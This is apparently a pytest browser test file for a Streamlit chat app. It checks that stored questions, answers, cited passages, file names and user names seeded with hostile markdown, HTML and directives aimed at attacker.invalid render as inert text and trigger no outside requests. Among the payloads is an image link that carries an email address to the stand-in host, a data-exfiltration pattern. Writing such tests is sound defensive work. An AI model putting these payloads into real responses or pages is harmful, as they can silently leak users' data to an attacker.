"""Hostile text on the Chat page, in a real Chromium: the browser asks no host but the app for anything.

A stored conversation whose question, answer, cited passage, file name and title carry images, links, autolinks,
HTML and Streamlit directives pointing at attacker.invalid, shown to a user whose name does the same; then a new
question streams an answer quoting it. Every request the page makes is recorded: all go to the app itself (this
also shows no font or icon comes from a CDN).
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from browser import (
    NO_WATCHER,
    assistant_messages,
    browser_page,
    idle,
    open_page,
    require_chromium,
    running_app,
    screenshot,
)

pytestmark = pytest.mark.browser

ATTACKER = "attacker.invalid"
USER = f"eve ![u](https://{ATTACKER}/user.png)"
QUESTION = f"Summarise ![q](https://{ATTACKER}/question.png) <https://{ATTACKER}/q-auto> please"
ANSWER = f"""The policy is in [1]. ![a](https://{ATTACKER}/answer.png?d=ada%40example.com)

- <img src="https://{ATTACKER}/answer-html.png"> and [a link](https://{ATTACKER}/link)
- bare https://{ATTACKER}/bare and www.{ATTACKER} and mail eve@{ATTACKER}
- :red[restyled] :material/warning: ![r][ref]

```python
print("code stays as written")
```

[ref]: https://{ATTACKER}/reference.png
"""
PASSAGE = f'Travel rules. <img src="https://{ATTACKER}/passage.png"> ![p](https://{ATTACKER}/passage-md.png)'
FILE_NAME = f"![f](https://{ATTACKER}/file-name.png).pdf"
NEW_QUESTION = f"What are the travel rules? ![n](https://{ATTACKER}/new-question.png)"


def recorded_requests(page) -> list[str]:
    """Every URL the page requests from now on."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    return requests


def outside_the_app(requests: list[str], url: str) -> list[str]:
    """The requests that went to a host other than the app (data: and blob: URLs never leave the browser)."""
    app = urlsplit(url).netloc
    return [u for u in requests if urlsplit(u).scheme not in ("data", "blob") and urlsplit(u).netloc != app]


def seed_conversation(data_dir) -> None:
    """The hostile conversation, stored as the app would store it, in the data dir the app will use."""
    from lib.chat import conversations as chat_store
    from lib.core.db import make_engine, migrate
    from lib.core.settings import load_settings

    engine = make_engine(load_settings().database_url)
    migrate(engine)
    chat = chat_store.create_session(engine, USER)
    chat_store.add_message(engine, chat.id, "user", QUESTION)
    source = {
        "number": 1,
        "chunk_id": "c1",
        "document_id": 1,
        "document": FILE_NAME,
        "page": 2,
        "chunk_index": 0,
        "text": PASSAGE,
        "score": 1.0,
    }
    chat_store.add_message(engine, chat.id, "assistant", ANSWER, sources=[source], summary="offline/extractive")
    engine.dispose()


def test_hostile_answers_passages_names_and_questions_make_no_request_outside_the_app(data_dir):
    require_chromium()
    seed_conversation(data_dir)
    env = {"WORKBENCH_DATA_DIR": str(data_dir), "WORKBENCH_USER": USER}
    with running_app(env, args=NO_WATCHER) as url, browser_page("hostile") as page:
        requests = recorded_requests(page)
        page.goto(url)
        page.get_by_placeholder("Ask anything").wait_for()
        idle(page)
        page.locator('[data-testid="stSidebar"] button', has_text="Summarise").click()
        answer = assistant_messages(page).filter(has_text="The policy is in [1].")
        answer.wait_for()
        answer.locator('[data-testid="stExpander"] summary', has_text="p. 2").click()  # the cited source
        answer.get_by_text("Travel rules.", exact=False).wait_for()
        idle(page)
        box = page.get_by_placeholder("Ask anything")
        box.fill(NEW_QUESTION)
        box.press("Enter")
        assistant_messages(page).nth(1).get_by_text("Offline extract ·", exact=False).wait_for()
        idle(page)
        page.wait_for_load_state("networkidle")
        screenshot(page, "chat-hostile")

        assert outside_the_app(requests, url) == []
        text = page.locator('[data-testid="stApp"]').inner_text().replace("\u2060", "")  # joiners break URLs
        for shown in (f"https://{ATTACKER}/answer.png", f"{ATTACKER}/passage.png", f"{ATTACKER}/new-question.png"):
            assert shown in text  # shown to the reader as text
        assert USER in text and FILE_NAME in text
        assert page.locator(f'img[src*="{ATTACKER}"], a[href*="{ATTACKER}"], a[href^="mailto:"]').count() == 0
        messages = page.locator('[data-testid="stChatMessage"] [data-testid="stMarkdownContainer"]')
        assert messages.locator('[role="img"]').count() == 0  # no :material/…: icon
        assert messages.locator("code", has_text='print("code stays as written")').count() == 1


TEMPLATE_NAME = f"a.www.{ATTACKER}"  # a valid template name that GFM would autolink; sorts first
DESCRIPTION = f"Replies ![d](https://{ATTACKER}/description.png) <https://{ATTACKER}/desc-auto> :red[restyled]"
DOCUMENT_NAME = f"www.{ATTACKER} ![n](https://{ATTACKER}/doc-name.png).txt"


def seed_template_and_document(data_dir) -> None:
    """A template with a hostile name and description, and an indexed document with a hostile file name."""
    from lib.core.settings import load_settings
    from lib.documents.indexing import create_collection
    from lib.prompts.language import Template
    from lib.services import Services

    services = Services(load_settings())
    services.templates.create(Template(name=TEMPLATE_NAME, description=DESCRIPTION, user="Hi {{ who }}"), USER)
    collection = create_collection(services.engine, "Handbook")
    services.indexer.index_file(collection, DOCUMENT_NAME, b"Travel is booked through the portal.")
    services.engine.dispose()


def test_hostile_template_and_file_names_make_no_request_outside_the_app_on_prompts_and_documents(data_dir):
    require_chromium()
    seed_template_and_document(data_dir)
    env = {"WORKBENCH_DATA_DIR": str(data_dir), "WORKBENCH_USER": USER}
    with running_app(env, args=NO_WATCHER) as url, browser_page("hostile-pages") as page:
        requests = recorded_requests(page)
        open_page(page, url, "Prompts")
        page.get_by_text("Replies", exact=False).first.wait_for()  # the description line of the first template
        idle(page)
        page.locator('[data-testid="stSidebarNav"]').get_by_role("link", name="Documents", exact=True).click()
        page.get_by_role("heading", name="Documents", exact=True).first.wait_for()  # the page and its list
        page.locator('[data-testid="stDataFrame"]').first.wait_for()  # the document list, with the hostile name
        idle(page)
        page.wait_for_load_state("networkidle")
        screenshot(page, "documents-hostile")
        assert outside_the_app(requests, url) == []
        assert page.locator(f'img[src*="{ATTACKER}"], a[href*="{ATTACKER}"]').count() == 0


# Pieces of markdown, GFM, HTML and Streamlit syntax that generated cases are put together from.
PIECES = [
    *"[]()<>`|\\:$&*_#~{}",
    "![", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", "\t", "- ", "* ", "1. ", "1) ", "> ", "---", "--|--",
    "www.", "WWW.", "https://", "HTTPS://", "a@b.c", "mailto:a@b.co", "&#58;", "&amp;", ":material/x:", ":streamlit:",
    ":red[", ":help[x]", ":::", "$$", "$x$", "<img src=x>", "<!--", "-->", "<pre>", "</pre>", "]: /u", "[^1]",
    "[^1]: x", "[ ] ", "mermaid", "```js\n", "\n```\n", "  ```", "x", " ", "\\(", "\\[", "\\$", "\\:",
    f"https://{ATTACKER}/", f"![i](https://{ATTACKER}/i.png)", f"<https://{ATTACKER}/a>", f"[l](https://{ATTACKER}/l)",
]  # fmt: skip


def generated_cases(count: int, seed: int = 12) -> list[str]:
    import random

    rng = random.Random(seed)
    return ["".join(rng.choice(PIECES) for _ in range(rng.randint(1, 40))) for _ in range(count)]


def test_generated_hostile_markdown_renders_nothing_live_in_the_real_renderer(data_dir):
    """markdown-it stands in for Streamlit's renderer in the unit tests; here the renderer itself is the judge."""
    from test_untrusted import HOSTILE, TRAPS

    from lib.chat import conversations as chat_store
    from lib.core.db import make_engine, migrate
    from lib.core.settings import load_settings

    require_chromium()
    cases = [*HOSTILE, *TRAPS, *generated_cases(250)]
    engine = make_engine(load_settings().database_url)
    migrate(engine)
    chat = chat_store.create_session(engine, "fuzz", title="Generated")
    for case in cases:
        chat_store.add_message(engine, chat.id, "user", case)
    engine.dispose()
    env = {"WORKBENCH_DATA_DIR": str(data_dir), "WORKBENCH_USER": "fuzz"}
    with running_app(env, args=NO_WATCHER) as url, browser_page("generated") as page:
        requests = recorded_requests(page)
        page.goto(url)
        page.get_by_placeholder("Ask anything").wait_for()
        idle(page)
        page.locator('[data-testid="stSidebar"] button', has_text="Generated").click()
        messages = page.locator('[data-testid="stChatMessage"]')
        for shown in range(chat_store.MESSAGES_PER_PAGE, len(cases), chat_store.MESSAGES_PER_PAGE):
            messages.nth(shown - 1).wait_for()  # it opens on its newest messages: show the earlier ones
            page.locator("button", has_text="Show earlier messages").click()
            messages.nth(min(shown + chat_store.MESSAGES_PER_PAGE, len(cases)) - 1).wait_for()
        page.locator('[data-testid="stChatMessage"]').nth(len(cases) - 1).wait_for()
        idle(page)
        page.wait_for_load_state("networkidle")
        live = page.evaluate(
            """() => [...document.querySelectorAll('[data-testid="stChatMessage"] [data-testid="stMarkdownContainer"]')]
                .map(m => [...m.querySelectorAll(
                    'a, img, video, audio, iframe, svg, input, [role=img], span[style], .katex, streamlit-help-icon')]
                    .filter(e => !e.closest('[data-testid="stCode"], code, [data-testid="stHeaderActionElements"]'))
                    .map(e => e.outerHTML.slice(0, 200)))"""
        )
        assert len(live) == len(cases)
        assert {cases[i]: found for i, found in enumerate(live) if found} == {}
        assert outside_the_app(requests, url) == []
